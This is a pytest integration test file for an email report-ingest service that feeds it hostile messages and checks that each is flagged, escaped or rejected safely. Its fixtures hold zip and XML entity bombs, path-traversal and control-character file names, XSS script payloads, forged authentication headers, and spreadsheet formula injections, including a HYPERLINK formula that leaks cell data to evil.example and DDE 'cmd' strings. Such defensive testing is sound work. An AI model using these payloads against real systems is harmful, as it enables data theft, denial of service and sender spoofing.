"""Hostile input through the real pipeline: Dovecot → archive → analysis → database → digest.

Each message ends as a named problem or an unassigned/automatic message, in bounded
time and memory, is archived byte for byte, and the service goes on: the next poll,
the day's export and the digest all work. On SQLite and on PostgreSQL (which refuses
NUL in text: one such field once stopped every poll behind it).
"""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import json
import os
import re
import subprocess
import sys
import textwrap
import urllib.parse
import zipfile
from functools import lru_cache
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from service.config import load_config
from service.day.dayview import build_day_view
from service.ingest.archive import Archive, content_hash
from service.ingest.pipeline import Ingestor
from service.mail.mailbox import Mailbox
from service.outputs.export import day_json, render_export_csv, render_export_xlsx
from service.outputs.sheets import FORMULA_START
from service.schedule.dispatch import build_digest
from storage.db import open_database
from storage.models import Message
from tests.integration.test_ingest import folder_uids
from tests.mailbuilders import ROOT, XLSX, email_bytes, report_workbook, simple_report, write_config
from tests.unit.builders import docx_bytes, entity_bomb_xlsx, replace_part, zip_bomb_xlsx

TZ7 = dt.timezone(dt.timedelta(hours=7))
DAY = dt.date(2021, 8, 11)
PROCESSED = "Đã xử lý"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
MX = "mx.baocao.test"


def at(hh: int, mm: int, ss: int = 0) -> dt.datetime:
    return dt.datetime(2021, 8, 11, hh, mm, ss, tzinfo=TZ7)


class Setup:
    """A config pointing at this test's mailbox, database and archive."""

    def __init__(self, mailbox, db_url: str, tmp: Path, extra: str = "", edit=None) -> None:
        self.env = {"TEST_IMAP_PW": mailbox.password}
        self.cfg_path = write_config(
            tmp / "config.toml",
            imap={
                "host": "127.0.0.1",
                "port": mailbox.port,
                "security": "none",
                "username": mailbox.user,
                "password_env": "TEST_IMAP_PW",
                "folder": "INBOX",
                "processed_folder": PROCESSED,
            },
            smtp={
                "host": "127.0.0.1",
                "port": 2525,
                "security": "none",
                "from_address": "baocao.ldtbxh@example.gov.vn",
            },
            database_url=db_url,
            archive_dir=tmp / "archive",
            extra=extra,
        )
        if edit:
            self.cfg_path.write_text(edit(self.cfg_path.read_text("utf-8")), "utf-8")
        self.cfg = load_config(self.cfg_path, env=self.env)
        self.mailbox = mailbox
        self.sessions = open_database(db_url)
        self.archive = Archive(self.cfg.service.archive_dir)

    def poll(self, workers: int = 1):
        ing = Ingestor(self.cfg, self.sessions, self.archive, workers=workers)
        try:
            with Mailbox(self.cfg.imap) as mb:
                return ing.poll(mb)
        finally:
            ing.close()

    def messages(self) -> list[Message]:
        with self.sessions() as s:
            msgs = s.scalars(select(Message).order_by(Message.received_at)).all()
            for m in msgs:  # load the relations before the session closes
                _ = (m.problems, m.attachments, m.figures)
            return list(msgs)

    def __enter__(self) -> Setup:
        return self

    def __exit__(self, *exc: object) -> None:
        self.sessions.kw["bind"].dispose()


@pytest.fixture
def setup(mailbox, db_url, tmp_path):
    with Setup(mailbox, db_url, tmp_path) as s:
        yield s


# -- hostile messages, one quirk each ------------------------------------------------------

BOOK = report_workbook({"Hỗ trợ hộ kinh doanh": {"Số đối tượng đề nghị hỗ trợ": 12}})


def head(sender: str | bytes, subject: bytes = b"Bao cao", extra: bytes = b"", mid: bytes | None = None) -> bytes:
    sender = sender.encode() if isinstance(sender, str) else sender
    mid = mid if mid is not None else f"<{content_hash(subject + sender + extra)[:16]}@x>".encode()
    return (
        b"From: "
        + sender
        + b"\r\nTo: baocao.ldtbxh@example.gov.vn\r\nSubject: "
        + subject
        + b"\r\nMessage-ID: "
        + mid
        + b"\r\nDate: Wed, 11 Aug 2021 08:00:00 +0700\r\n"
        + extra
    )


def with_parts(top: bytes, *parts: bytes) -> bytes:
    out = [top, b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="HB"\r\n\r\n']
    for p in parts:
        out += [b"--HB\r\n", p]
    return b"".join(out) + b"--HB--\r\n"


def file_part(filename_param: bytes, data: bytes, ctype: str = XLSX) -> bytes:
    return (
        b"Content-Type: "
        + ctype.encode()
        + b"\r\nContent-Disposition: attachment; "
        + filename_param
        + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(data).replace(b"\n", b"\r\n")
    )


def named(name: str) -> bytes:
    return b"filename*=utf-8''" + urllib.parse.quote(name, safe="").encode()


def zip_bomb_docx() -> bytes:
    base = docx_bytes([["Nội dung", "Số đề nghị"], ["Hộ kinh doanh", "5"]])
    src, out = zipfile.ZipFile(io.BytesIO(base)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != "word/document.xml":
                dst.writestr(info, src.read(info))
                continue
            bomb = zipfile.ZipInfo("word/document.xml")
            bomb.compress_type = zipfile.ZIP_DEFLATED
            with dst.open(bomb, "w", force_zip64=True) as fh:
                fh.write(
                    b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                    b'wordprocessingml/2006/main"><w:body>'
                )
                for _ in range(300):
                    fh.write(b" " * (1 << 20))
                fh.write(b"</w:body></w:document>")
    return out.getvalue()


def entity_bomb_docx() -> bytes:
    lol = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    doc = (
        '<?xml version="1.0"?><!DOCTYPE d [' + "".join(lol) + ']><w:document xmlns:w="http://schemas.'
        'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )
    return replace_part(docx_bytes([["Nội dung", "Số đề nghị"]]), "word/document.xml", doc.encode())


def nested(sender: str, depth: int) -> bytes:
    raw = head(sender, b"nested") + b"MIME-Version: 1.0\r\n"
    for i in range(depth):
        raw += b"Content-Type: multipart/mixed; boundary=N%d\r\n\r\n--N%d\r\n" % (i, i)
    return (
        raw + b"Content-Type: text/plain\r\n\r\nhi\r\n" + b"".join(b"--N%d--\r\n" % i for i in reversed(range(depth)))
    )


HOSTILE_NAMES = [
    "../../../../etc/passwd",
    "..\\..\\boot.ini",
    "bc\x00.xlsx",
    "b\x07c\x1b[2J.xlsx",
    "bao-cao\u202exslx.exe",
    "Báo cáo " * 125 + ".xlsx",
]


@lru_cache(maxsize=1)
def hostile_messages() -> list[tuple[str, bytes]]:
    """(quirk, raw): one quirk per message, each from a different unit unless the quirk is the sender."""
    return [
        (
            "zip bomb xlsx",
            email_bytes(
                sender="bhxh.tp@example.gov.vn", attachments=[("bom.xlsx", XLSX, zip_bomb_xlsx(300 * 1024 * 1024))]
            ),
        ),
        (
            "entity bomb xlsx",
            email_bytes(sender="yte.tp@example.gov.vn", attachments=[("lol.xlsx", XLSX, entity_bomb_xlsx())]),
        ),
        (
            "zip bomb docx",
            email_bytes(sender="vhtt.tp@example.gov.vn", attachments=[("bom.docx", DOCX, zip_bomb_docx())]),
        ),
        (
            "entity bomb docx",
            email_bytes(sender="tckh.tp@example.gov.vn", attachments=[("lol.docx", DOCX, entity_bomb_docx())]),
        ),
        (
            "1 MB subject",
            head("songcau@example.gov.vn", b"=?utf-8?b?w6E=?= " * 60_000) + b"Content-Type: text/plain\r\n\r\nbody\r\n",
        ),
        (
            "header without colon",
            with_parts(
                head("ducxuan@example.gov.vn", b"Ba\xcc\x81o ca\xcc\x81o", b"this line has no colon\r\n"),
                file_part(b"filename=bc.xlsx", BOOK),
            ),
        ),
        (
            "NUL bytes",
            with_parts(
                head("ntmk@example.gov.vn", b"a\x00b", mid=b"<nul\x00id@x>"), file_part(b"filename=bc.xlsx", BOOK)
            ),
        ),
        (
            "invalid encoded words, 8-bit name",
            with_parts(
                head(b"\xe9t\xe9 <phungchikien@example.gov.vn>", b"=?bogus?b?AAAA?= =?utf-8?b?###?= =?utf-8?q?=FF?="),
                file_part(b"filename=bc.xlsx", BOOK),
            ),
        ),
        ("From without address", with_parts(head("Van thu phuong", b"x"), file_part(b"filename=bc.xlsx", BOOK))),
        (
            "500 To addresses",
            with_parts(
                head(
                    "huyentung@example.gov.vn",
                    b"x",
                    b"Cc: " + b", ".join(b"u%d@example.vn" % i for i in range(500)) + b"\r\n",
                ),
                file_part(b"filename=bc.xlsx", BOOK),
            ),
        ),
        (
            "hostile file names",
            with_parts(head("xuathoa@example.gov.vn", b"names"), *[file_part(named(n), BOOK) for n in HOSTILE_NAMES]),
        ),
        (
            "10,000 MIME parts",
            with_parts(
                head("duongquang@example.gov.vn", b"parts"),
                *[file_part(b"filename=p%d.bin" % i, b"\0", "application/octet-stream") for i in range(10_000)],
            ),
        ),
        ("nested 1,000 deep", nested("nongthuong@example.gov.vn", 1000)),
        ("cell of 1e30", simple_report(sender="pgd.nhcsxh@example.vn", de_nghi=10**30)),
        ("figures in the wrong unit", simple_report(sender="ke.toan@thue.example.gov.vn")),
    ]


def test_hostile_messages_end_as_named_problems_and_the_service_goes_on(setup):
    cases = hostile_messages()
    for i, (_, raw) in enumerate(cases):
        setup.mailbox.append(raw, at(9, i))
    # One poll takes the whole batch (its speed is bench/'s business; a hang is pytest-timeout's).
    report = setup.poll(workers=2)  # a batch this size is analysed in worker processes
    assert len(report.stored) == len(cases)

    msgs = setup.messages()
    by_quirk = dict(zip([q for q, _ in cases], msgs))
    for (quirk, raw), m in zip(cases, msgs, strict=True):
        # Byte for byte as the server gives it; Dovecot stores a NUL as 0x80.
        assert setup.archive.load(m.archive_path) == raw.replace(b"\x00", b"\x80"), quirk

    def codes(quirk: str) -> list[str]:
        return [p.code for p in by_quirk[quirk].problems]

    def limit(quirk: str) -> set[str]:
        return {p.params.get("limit") for p in by_quirk[quirk].problems}

    assert codes("zip bomb xlsx") == ["over_limit"] and limit("zip bomb xlsx") & {
        "decompressed_bytes",
        "compression_ratio",
    }
    assert codes("entity bomb xlsx") == ["unsafe_file"]
    assert codes("zip bomb docx") == ["over_limit"]
    assert codes("entity bomb docx") == ["unsafe_file"]
    for quirk in ("zip bomb xlsx", "entity bomb xlsx", "zip bomb docx", "entity bomb docx"):
        m = by_quirk[quirk]
        assert (m.kind, m.readable) == ("report", False), quirk  # the unit reported: unreadable

    m = by_quirk["1 MB subject"]
    assert (m.unit_code, len(m.subject)) == ("SONG_CAU", 1000) and m.subject.startswith("ááá")
    m = by_quirk["header without colon"]
    assert (m.unit_code, m.subject, m.readable) == ("DUC_XUAN", "Báo cáo", True)
    m = by_quirk["NUL bytes"]  # 0x80 after Dovecot: not UTF-8, so read as windows-1258
    assert (m.unit_code, m.subject, m.message_id, m.readable) == ("NTMK", "a€b", "nul€id@x", True)
    m = by_quirk["invalid encoded words, 8-bit name"]
    assert (m.unit_code, m.from_name, m.readable) == ("PCK", "été", True)
    m = by_quirk["From without address"]
    assert (m.kind, m.reason, m.from_address) == ("unassigned", "no_sender_address", None)
    assert (by_quirk["500 To addresses"].unit_code, by_quirk["500 To addresses"].readable) == ("HUYEN_TUNG", True)

    m = by_quirk["hostile file names"]
    names = [a.filename for a in sorted(m.attachments, key=lambda a: a.position)]
    assert names[:5] == ["passwd", "boot.ini", "bc .xlsx", "b c [2J.xlsx", "bao-cao xslx.exe"]
    assert len(names[5]) <= 200 and names[5].endswith(".xlsx") and names[5].startswith("Báo cáo")
    assert m.readable and m.unit_code == "XUAT_HOA"
    # Nothing a sender wrote is ever part of a path: the archive holds only content hashes.
    archived = [p for p in Path(setup.cfg.service.archive_dir).rglob("*") if p.is_file()]
    assert archived and all(re.fullmatch(r"[0-9a-f]{64}\.eml", p.name) for p in archived)
    assert not any(Path(setup.cfg.service.archive_dir).rglob("passwd"))

    m = by_quirk["10,000 MIME parts"]
    assert m.unit_code == "DUONG_QUANG" and len(m.attachments) == 50
    [p] = m.problems if len(m.problems) == 1 else [p for p in m.problems if p.code == "too_many_attachments"]
    assert (p.code, p.params["count"], p.params["skipped"]) == ("too_many_attachments", "10000", "9950")
    m = by_quirk["nested 1,000 deep"]
    assert (m.unit_code, codes("nested 1,000 deep")) == ("NONG_THUONG", ["message_unparsable"])
    m = by_quirk["cell of 1e30"]
    assert codes("cell of 1e30") == ["value_out_of_range"] and m.readable
    assert {(f.indicator, f.measure) for f in m.figures} == {("dao_tao", "phe_duyet"), ("dao_tao", "kinh_phi")}
    assert by_quirk["figures in the wrong unit"].unit_code == "THUE"

    # Flagged for a person (unassigned) or moved; none lost, none deleted.
    assert len(folder_uids(setup.mailbox, "INBOX")) == 1
    assert len(folder_uids(setup.mailbox, PROCESSED)) == len(cases) - 1

    # NUL itself, as `baocao import` (or a server that keeps it) hands it over: PostgreSQL
    # refuses NUL in text, and a refused commit would have stopped every poll after it.
    ingestor = Ingestor(setup.cfg, setup.sessions, setup.archive, workers=1)
    nul = dict(hostile_messages())["NUL bytes"].replace(b"<nul", b"<import-nul")
    stored = ingestor.import_raw(nul, at(9, 59))
    with setup.sessions() as session:
        m = session.get(Message, stored.message_pk)
        assert (m.unit_code, m.subject, m.message_id, m.readable) == ("NTMK", "ab", "import-nulid@x", True)
    ingestor.close()

    # The service goes on: the same messages are not read again, a new report is stored,
    # and the day's export and digest are built from what was stored.
    assert setup.poll().stored == []
    setup.mailbox.append(simple_report(sender="yte.tp@example.gov.vn", de_nghi=7), at(10, 30))
    assert [s.unit_code for s in setup.poll().stored] == ["YTE"]
    with setup.sessions() as session:
        doc = json.loads(json.dumps(day_json(build_day_view(session, setup.cfg, DAY), setup.cfg)))
        digest = build_digest(setup.cfg, session, setup.archive, DAY, at(15, 0))
    status = {u["code"]: u["status"] for u in doc["units"]}
    assert status["BHXH"] == "unreadable" and status["YTE"] == "on_time" and status["NTMK"] == "on_time"
    assert any(u["reason_code"] == "no_sender_address" for u in doc["unassigned"])
    for text in (digest.html, digest.text):
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\u202a-\u202e]", text)


# -- a 50 MB attachment: named, archived, in bounded memory ----------------------------------


def fifty_megabyte_xlsx() -> bytes:
    """A genuine .xlsx (sniffed as one) carrying 50 MB that does not compress."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(BOOK)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        dst.writestr(
            zipfile.ZipInfo("xl/media/image1.png"), os.urandom(50 * 1024 * 1024), compress_type=zipfile.ZIP_STORED
        )
    return out.getvalue()


POLL_AND_MEASURE = textwrap.dedent("""
    import json, sys
    from service.ingest.archive import Archive
    from service.config import load_config
    from service.mail.mailbox import Mailbox
    from service.ingest.pipeline import Ingestor
    from storage.db import open_database

    def status_kib(field):
        with open("/proc/self/status") as fh:
            return next(int(line.split()[1]) for line in fh if line.startswith(field + ":"))

    cfg = load_config(sys.argv[1])
    ingestor = Ingestor(cfg, open_database(cfg.service.database_url), Archive(cfg.service.archive_dir), workers=1)
    before = status_kib("VmRSS")
    with open("/proc/self/clear_refs", "w") as fh:  # start the high-water mark (VmHWM) from here
        fh.write("5")
    with Mailbox(cfg.imap) as mb:
        report = ingestor.poll(mb)
    print(json.dumps({"stored": len(report.stored), "before_kib": before, "peak_kib": status_kib("VmHWM")}))
""")


def test_a_fifty_megabyte_attachment_is_named_over_limit_in_bounded_memory(mailbox, tmp_path):
    # SQLite only: the database plays no part in what is measured here.
    with Setup(mailbox, f"sqlite:///{tmp_path / 'baocao.sqlite3'}", tmp_path) as setup:
        fifty_megabytes(setup)


def fifty_megabytes(setup: Setup) -> None:
    raw = email_bytes(sender="bhxh.tp@example.gov.vn", attachments=[("bao-cao-lon.xlsx", XLSX, fifty_megabyte_xlsx())])
    assert len(raw) > 68_000_000
    setup.mailbox.append(raw, at(9, 0))
    # A separate process, so its peak memory is this poll's alone.
    done = subprocess.run(
        [sys.executable, "-c", POLL_AND_MEASURE, str(setup.cfg_path)],
        cwd=ROOT,
        env={**os.environ, **setup.env},
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    result = json.loads(done.stdout.strip().splitlines()[-1])
    growth_mb = (result["peak_kib"] - result["before_kib"]) / 1024
    # Measured: ~210 MB, nearly all of it the IMAP download (the literal and its copies);
    # parsing adds ~0. Before oversized parts were left out it was ~670 MB: mail-parser
    # alone took 600 MB to split this message.
    assert growth_mb < 300, f"the poll grew the process by {growth_mb:.0f} MB"
    assert result["stored"] == 1
    [m] = setup.messages()
    assert (m.kind, m.unit_code, m.readable) == ("report", "BHXH", False)
    [p] = m.problems
    assert (p.code, p.params["file"], p.params["limit"]) == ("over_limit", "bao-cao-lon.xlsx", "attachment_bytes")
    assert setup.archive.load(m.archive_path) == raw
    assert len(folder_uids(setup.mailbox, PROCESSED)) == 1
    print(f"50 MB attachment: process growth {growth_mb:.0f} MB")


# -- HTML, scripts and formula injection ----------------------------------------------------

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
]
SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'


def injected_workbook() -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "=cmd| C calc!A0"
    ws.append(["Đơn vị: " + SCRIPT])
    ws.append(["STT", "Nội dung", "Số đối tượng đề nghị hỗ trợ", "Số đối tượng được phê duyệt"])
    ws.append([1, "Hỗ trợ hộ kinh doanh", 10, None])
    ws.append([2, "Hỗ trợ đào tạo", 5, None])
    ws.cell(3, 4).value = INJECTIONS[0]
    ws.cell(3, 4).data_type = "s"  # as text, as a unit's file would hold it
    ws.cell(4, 4).value = INJECTIONS[1]
    ws.cell(4, 4).data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def encoded_from(raw: bytes, name: str, address: str) -> bytes:
    """`raw` with a From whose display name is an RFC 2047 encoded-word, as mail programs
    write it (the email package would write this name unquoted, breaking the field)."""
    value = f"=?utf-8?b?{base64.b64encode(name.encode()).decode()}?= <{address}>".encode()
    return re.sub(rb"^From:.*?\r\n(?![ \t])", lambda _: b"From: " + value + b"\r\n", raw, count=1, flags=re.S)


def unit_name_injection(text: str) -> str:
    # A unit name starting with '=' (administrators copy names from spreadsheets too).
    return text.replace('name = "Phòng Y tế"', 'name = "=1+2 Phòng Y tế"', 1)


def sheet_cells(data: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                yield ws.title, cell


def assert_no_formula(data: bytes) -> list[str]:
    """No cell of the workbook is a formula; text that would be one is marked as text."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    texts = []
    for title, cell in sheet_cells(data):
        assert cell.data_type != "f", (title, cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            texts.append(cell.value)
            if cell.value.startswith(FORMULA_START):
                assert cell.quotePrefix, (title, cell.coordinate, cell.value)
    return texts


def test_html_scripts_and_formulas_are_escaped_and_neutralised(mailbox, db_url, tmp_path):
    with Setup(mailbox, db_url, tmp_path, edit=unit_name_injection) as setup:
        injections(setup)


def injections(setup: Setup) -> None:
    hostile_subject = INJECTIONS[2] + " " + SCRIPT
    from_name = '=HYPERLINK("http://evil.example","BHXH") ' + SCRIPT
    setup.mailbox.append(
        encoded_from(
            email_bytes(subject=hostile_subject, attachments=[(INJECTIONS[3] + ".xlsx", XLSX, injected_workbook())]),
            from_name,
            "bhxh.tp@example.gov.vn",
        ),
        at(9, 0),
    )
    setup.mailbox.append(
        encoded_from(
            email_bytes(subject=hostile_subject, attachments=[(SCRIPT + ".pdf", "application/pdf", b"%PDF-1.4")]),
            from_name,
            "la@evil.example",
        ),
        at(9, 5),
    )
    setup.mailbox.append(
        email_bytes(
            sender="yte.tp@example.gov.vn",
            subject=INJECTIONS[4],
            attachments=[("=1+1.pdf", "application/pdf", b"%PDF-1.4 scan")],
        ),
        at(9, 10),
    )
    assert len(setup.poll().stored) == 3
    with setup.sessions() as session:
        view = build_day_view(session, setup.cfg, DAY)
        digest = build_digest(setup.cfg, session, setup.archive, DAY, at(15, 0))
        export_csv = render_export_csv([view], setup.cfg)
        export_xlsx = render_export_xlsx([view], setup.cfg)

    # The digest HTML shows the texts, escaped: no element or attribute from a sender.
    html = digest.html
    assert "<script" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(" in html and "=HYPERLINK(" in html  # shown, as text

    # The consolidated workbook: every sender text is there, as text.
    [book] = [f for f in digest.files if f.filename.endswith(".xlsx")]
    texts = assert_no_formula(book.data)
    assert any(t.startswith("@SUM(1+1)") for t in texts)  # the unknown sender's subject
    assert any(t.startswith("=HYPERLINK(") for t in texts)  # its From name
    assert any(t.startswith("=1+2 Phòng Y tế") for t in texts)  # the unit name from the config

    # The exports: the xlsx has no formula; no CSV field starts a formula.
    assert any(t.startswith("=1+2") for t in assert_no_formula(export_xlsx))
    rows = list(csv.reader(io.StringIO(export_csv.decode("utf-8-sig"))))
    fields = [f for r in rows for f in r]
    assert "'=1+2 Phòng Y tế" in fields
    assert not [f for f in fields if f.startswith(FORMULA_START)]

    # The unread files attached to the digest keep a clean name.
    for f in digest.files:
        assert not re.search(r"[\x00-\x1f<>/\\\\]", f.filename), f.filename


# -- spoofed From with [security] require_authentication ----------------------------------------

SECURITY = f'\n[security]\nrequire_authentication = true\nauthserv_id = "{MX}"\n'


def authenticated(raw: bytes, *fields: str) -> bytes:
    """`raw` as the receiving server delivers it: its trace fields prepended."""
    return (
        "".join(f"Authentication-Results: {f}\r\n" for f in fields).encode()
        + f"Received: from sender.example by {MX}; Wed, 11 Aug 2021 09:00:00 +0700\r\n".encode()
        + raw
    )


def test_spoofed_from_is_unassigned_when_authentication_is_required(mailbox, db_url, tmp_path):
    with Setup(mailbox, db_url, tmp_path, extra=SECURITY) as setup:
        spoofing(setup)


def spoofing(setup: Setup) -> None:
    cases = [
        # (raw, expected kind, unit, reason)
        (
            authenticated(
                simple_report(de_nghi=41),
                f"{MX}; dkim=pass header.d=example.gov.vn header.s=k1; spf=pass smtp.mailfrom=bhxh.tp@example.gov.vn",
            ),
            "report",
            "BHXH",
            None,
        ),
        (
            authenticated(
                simple_report(sender="yte.tp@example.gov.vn", de_nghi=42),
                f"{MX}; spf=pass smtp.mailfrom=bounces@mail.example.gov.vn",
            ),
            "report",
            "YTE",
            None,
        ),
        # a spoof: no word from the receiving server at all
        (simple_report(de_nghi=9001), "unassigned", None, "unverified_sender_no_results"),
        # a spoof that writes its own results, under another name
        (
            authenticated(simple_report(de_nghi=9002), "gmail.com; dkim=pass header.d=example.gov.vn"),
            "unassigned",
            None,
            "unverified_sender_no_results",
        ),
        # a spoof that signs with its own domain
        (
            authenticated(
                simple_report(de_nghi=9003),
                f"{MX}; dkim=pass header.d=evil.example; spf=pass smtp.mailfrom=x@evil.example",
            ),
            "unassigned",
            None,
            "unverified_sender",
        ),
        # a spoof that forges the server's name below the server's own (failing) field
        (
            authenticated(
                b"Authentication-Results: "
                + MX.encode()
                + b"; dkim=pass header.d=example.gov.vn\r\n"
                + simple_report(de_nghi=9004),
                f"{MX}; dkim=fail header.d=example.gov.vn",
            ),
            "unassigned",
            None,
            "unverified_sender",
        ),
    ]
    for i, (raw, *_rest) in enumerate(cases):
        setup.mailbox.append(raw, at(9, i))
    assert len(setup.poll().stored) == len(cases)
    msgs = setup.messages()
    got = [(m.kind, m.unit_code, (m.reason or "").partition(":")[0] or None) for m in msgs]
    assert got == [(k, u, r) for _, k, u, r in cases]
    assert msgs[4].reason == "unverified_sender:dkim=pass header.d=evil.example; spf=pass smtp.mailfrom=x@evil.example"

    with setup.sessions() as session:
        doc = day_json(build_day_view(session, setup.cfg, DAY), setup.cfg)
        digest = build_digest(setup.cfg, session, setup.archive, DAY, at(15, 0))
    units = {u["code"]: u for u in doc["units"]}
    assert units["BHXH"]["values"]["dao_tao"]["de_nghi"] == 41  # the spoofs' 9001.. never count
    assert units["YTE"]["values"]["dao_tao"]["de_nghi"] == 42
    assert doc["totals"]["dao_tao"]["de_nghi"] == 83
    reasons = [u["reason"] for u in doc["unassigned"]]
    assert len(reasons) == 4 and all(r.startswith("Không xác minh được địa chỉ gửi (From)") for r in reasons)
    assert "Không xác minh được địa chỉ gửi (From)" in digest.html
    # Flagged in the inbox for a person to look at.
    assert len(folder_uids(setup.mailbox, "INBOX")) == 4


def test_without_the_setting_a_spoofed_from_counts(setup):
    # The documented default: the From address is believed (off unless configured).
    setup.mailbox.append(simple_report(de_nghi=9001), at(9, 0))
    assert [(s.kind, s.unit_code) for s in setup.poll().stored] == [("report", "BHXH")]
